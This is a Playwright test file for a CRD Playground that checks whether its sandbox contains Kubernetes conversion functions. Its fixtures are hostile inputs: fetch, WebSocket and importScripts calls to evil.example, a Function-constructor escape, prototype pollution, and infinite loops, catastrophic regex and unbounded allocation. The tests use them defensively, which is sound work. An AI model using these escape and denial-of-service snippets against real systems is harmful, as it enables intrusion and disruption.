import type { Page } from "@playwright/test";
import { expect, type Playground, test } from "./playground.ts";

const crd = `apiVersion: apiextensions.k8s.io/v1
kind: CustomResourceDefinition
metadata:
  name: widgets.example.com
spec:
  group: example.com
  scope: Namespaced
  names: {plural: widgets, singular: widget, kind: Widget}
  conversion:
    strategy: Webhook
    webhook:
      conversionReviewVersions: [v1]
      clientConfig: {url: "https://example.com/convert"}
  versions:
  - {name: v1, served: true, storage: true, schema: {openAPIV3Schema: {type: object}}}
  - {name: v2, served: true, storage: false, schema: {openAPIV3Schema: {type: object}}}
`;
const resource = "apiVersion: example.com/v2\nkind: Widget\nmetadata:\n  name: w\n";

/** Returns a function with `line` as its second line. */
function withBody(line: string, rest = "object.apiVersion = desiredAPIVersion;\n  return object;"): string {
  return `export function convert(object, desiredAPIVersion) {\n  ${line}\n  ${rest}\n}\n`;
}

/**
 * Opens the page with a definition that converts, and checks that the sandbox works. Returns the requests that are
 * made from then on, except for the page's own files, which may be loaded on request.
 */
async function openWithCage(playground: Playground, page: Page): Promise<string[]> {
  await playground.open();
  await playground.write(crd, resource);
  await playground.tab("Conversion").click();
  const editor = page.getByRole("textbox", { name: "Conversion" });
  await editor.fill(withBody("throw new Error('the cage is at work');"));
  await expect(playground.problems().first()).toContainText("the cage is at work");
  await editor.fill(withBody("// good"));
  await expect(playground.verdict).toContainText("Resource accepted");
  const requests: string[] = [];
  const own = new URL("assets/", page.url()).href;
  // Chromium requests it again whenever the address changes.
  const icon = new URL("icon.svg", page.url()).href;
  await page.context().route("**/*", (route) => {
    const url = route.request().url();
    if (!url.startsWith(own) && url !== icon) requests.push(url);
    return route.continue();
  });
  return requests;
}

type Fault = readonly [name: string, source: string, line: number, words: RegExp];

/** What a bad function may do, by kind. Each kind is one visit, and after each fault comes a good function. */
const faults: Readonly<Record<string, readonly Fault[]>> = {
  "takes all that it can get": [
    ["loops without end", withBody("for (;;) {}"), 2, /longer than 500 ms/],
    ["loops while it is loaded", `const a = 1;\nwhile (a) {}\n${withBody("")}`, 2, /longer than 500 ms/],
    ["matches for ever", withBody("/(a+)+b/.test('a'.repeat(40));"), 2, /longer than 500 ms/],
    ["allocates without end", withBody("let s = 'x'; for (;;) s += s;"), 2, /more than 64 MB/],
    ["recurses without end", withBody("const f = () => f() + 1; f();"), 2, /too deeply/],
  ],
  "is wrong or reaches for what is outside": [
    ["throws", withBody("throw new Error('no');"), 2, /threw/],
    ["cannot be read", withBody("let = = ;"), 2, /has a syntax error/],
    ["returns nonsense", withBody("return 5;"), 1, /rejected the result/],
    ["changes the name", withBody("object.metadata.name = 'other';"), 1, /rejected the result/],
    ["tries fetch", withBody("fetch('https://evil.example/');"), 2, /threw/],
    ["tries XMLHttpRequest", withBody("new XMLHttpRequest();"), 2, /threw/],
    ["tries a socket", withBody("new WebSocket('wss://evil.example/');"), 2, /threw/],
    [
      "imports over the network",
      withBody("return import('https://evil.example/x.js');"),
      1,
      /rejected the result/,
    ],
    ["reaches for the page", withBody("document.title = 'taken';"), 2, /threw/],
    ["reaches for the window", withBody("window.top.location = 'https://evil.example/';"), 2, /threw/],
    ["reaches for the worker", withBody("postMessage({ type: 'ready' });"), 2, /threw/],
    ["reaches for the worker's self", withBody("self.close();"), 2, /threw/],
    ["loads scripts into the worker", withBody("importScripts('https://evil.example/');"), 2, /threw/],
    [
      "makes functions to get out",
      withBody("(function () {}).constructor('return this')().process.exit();"),
      2,
      /threw/,
    ],
    ["waits", withBody("setTimeout(() => 1, 1);"), 2, /threw/],
  ],
};

for (const [kind, ofKind] of Object.entries(faults)) {
  test(`a function that ${kind} is held, and named at its line`, async ({ playground, page }) => {
    test.slow();
    const requests = await openWithCage(playground, page);
    const typed = page.getByRole("textbox", { name: "Conversion" });
    const fault = page.getByRole("status", { name: "Fault of the conversion function" });
    for (const [name, source, line, words] of ofKind) {
      await test.step(name, async () => {
        await typed.fill(source);
        // While it runs, the editor accepts a key at once.
        await typed.press("End");
        await page.keyboard.type("/", { delay: 0 });
        await expect(typed).toHaveValue(/\//, { timeout: 500 });
        await typed.fill(source);
        await expect(fault).toContainText(words);
        await expect(fault).toContainText(`line ${line}`);
        await expect(playground.verdict).toContainText("Resource rejected");
        await expect(playground.problems().first()).toContainText(words);
        await expect(page).toHaveTitle(/CRD Playground$/);
        await fault.getByRole("button", { name: `line ${line}` }).click();
        await expect(typed).toBeFocused();
        // Afterwards everything works as before.
        await typed.fill(withBody("// good again"));
        await expect(playground.verdict).toContainText("Resource accepted");
        await expect(fault).toBeHidden();
        expect(requests).toEqual([]);
      });
    }
  });
}

test("a function that patches prototypes harms only itself, one that nothing can interrupt only its worker", async ({
  playground,
  page,
}) => {
  const requests = await openWithCage(playground, page);
  const patches = `Object.prototype.taken = 1;
Array.prototype.map = () => { throw new Error("taken"); };
JSON.stringify = () => "}";
JSON.parse = () => 1;
Map.prototype.get = () => 1;
globalThis.Promise = undefined;
`;
  await page.getByRole("textbox", { name: "Conversion" }).fill(patches + withBody("// good"));
  await expect(playground.verdict).toContainText("Resource accepted");
  expect(await page.evaluate(() => "taken" in {})).toBe(false);
  await page
    .getByRole("textbox", { name: "Conversion" })
    .fill(withBody("throw new Error(String({}.taken));"));
  await expect(playground.problems().first()).toContainText("undefined");
  expect(requests).toEqual([]);

  const editor = page.getByRole("textbox", { name: "Conversion" });
  await editor.fill(withBody("Array.prototype.indexOf.call({ length: 2 ** 53 - 1 }, 1);"));
  await expect(page.getByRole("alert")).toContainText("The conversion function may never end.");
  await editor.fill(withBody("// good again"));
  await expect(playground.verdict).toContainText("Resource accepted");
  await expect(page.getByRole("alert")).toHaveCount(0);
  expect(requests).toEqual([]);
});

test("without a conversion the cage is not loaded", async ({ playground, page }) => {
  const loaded: string[] = [];
  page.on("request", (request) => loaded.push(request.url()));
  await playground.open();
  await page.waitForLoadState("networkidle");
  expect(loaded.filter((url) => /quickjs|\.wasm/.test(url))).toEqual([]);
});
